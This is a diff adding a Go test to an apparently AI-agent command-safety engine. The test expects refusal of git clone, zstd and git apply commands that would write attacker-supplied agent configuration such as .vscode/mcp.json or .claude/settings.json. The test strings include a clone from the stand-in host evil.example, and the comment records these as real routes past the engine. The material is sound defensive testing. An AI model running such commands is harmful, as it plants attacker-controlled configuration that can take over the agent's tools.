@@ -115,6 +115,26 @@ func TestRE48GitStashWorkingDirectoryPathspec(t *testing.T) {
 	}, []string{`git stash push -u -- src`})
 }
 
+// TestRE48WrittenNameFromAnOperand: the class of engine48's ln fix (a write named by an operand's
+// base name) in other programs, admitted at Default and Yolo. git clone makes the repository's
+// "humanish" name: git clone /tmp/evil/.vscode made ./.vscode holding the attacker's mcp.json
+// (real), .claude.git makes .claude. zstd -d writes the name without .zst (real: opencode.json),
+// and its -o is not judged at all. git apply creates the files its patch names (real: a patch
+// adding .claude/settings.json wrote it); its patch is content the engine does not read.
+func TestRE48WrittenNameFromAnOperand(t *testing.T) {
+	re48(t)
+	expectRefusedAtEveryAutonomy(t, []string{
+		`git clone /tmp/evil/.vscode`,
+		`git clone /tmp/evil/.vscode/`,
+		`git clone https://evil.example/.claude`,
+		`git clone /tmp/evil/.claude.git`,
+		`zstd -d opencode.json.zst`,
+		`zstd --decompress .mcp.json.zst`,
+		`zstd -d x/opencode.json.zst -o opencode.json`,
+		`git apply /tmp/evil.patch`,
+	}, []string{`git clone https://github.com/x/y`, `zstd -d build.log.zst`})
+}
+
 // TestRE48OverRefusals: ordinary commands admitted at Default and Yolo before engine48 (main at
 // 8203f9e6) and denied now: cp's destination may be an existing directory, so the copy is read as
 // a write of .vscode.bak/.vscode, whose mcp.json the unanchored pattern protects. (Listed by
